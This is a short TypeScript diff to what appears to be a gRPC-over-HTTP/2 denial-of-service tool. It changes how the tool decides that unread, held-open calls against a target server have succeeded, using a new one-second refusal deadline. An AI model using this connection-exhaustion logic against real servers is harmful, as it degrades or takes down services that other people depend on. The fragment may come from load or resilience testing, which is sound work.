@@ -24,6 +24,8 @@ const DECLARED_BYTES = 31 * 1024 * 1024;
 const PIECE_BYTES = 64 * 1024;
 /** Longest wait for the first or the next bytes of an answer. */
 const ANSWER_DEADLINE_MS = 10_000;
+/** A call that is refused hears so within this time; later it waits for its turn. */
+const REFUSAL_DEADLINE_MS = 1_000;
 
 const grpcHeaders = (path: string) => ({
   ':method': 'POST',
@@ -109,7 +111,7 @@ export async function unreadAnswers(
 ): Promise<Attack | undefined> {
   const crowd = new Crowd();
   const framed = grpcMessage(message);
-  const answers = Array.from({ length: count }, () => {
+  const calls = Array.from({ length: count }, () => {
     const { session, onGone } = openSession(crowd, target);
     const stream = session.request(grpcHeaders(path));
     stream.on('close', onGone);
@@ -125,14 +127,14 @@ export async function unreadAnswers(
         onGone();
         resolve(false);
       });
-      stream.setTimeout(ANSWER_DEADLINE_MS, () => {
-        resolve(false);
+      stream.setTimeout(REFUSAL_DEADLINE_MS, () => {
+        resolve(true);
       });
     });
   });
-  const answered = (await Promise.all(answers)).filter(Boolean).length;
+  const held = (await Promise.all(calls)).filter(Boolean).length;
   const attack = crowd.attack();
-  if (answered > count / 2) return attack;
+  if (held > count / 2) return attack;
   await attack.end();
   return undefined;
 }
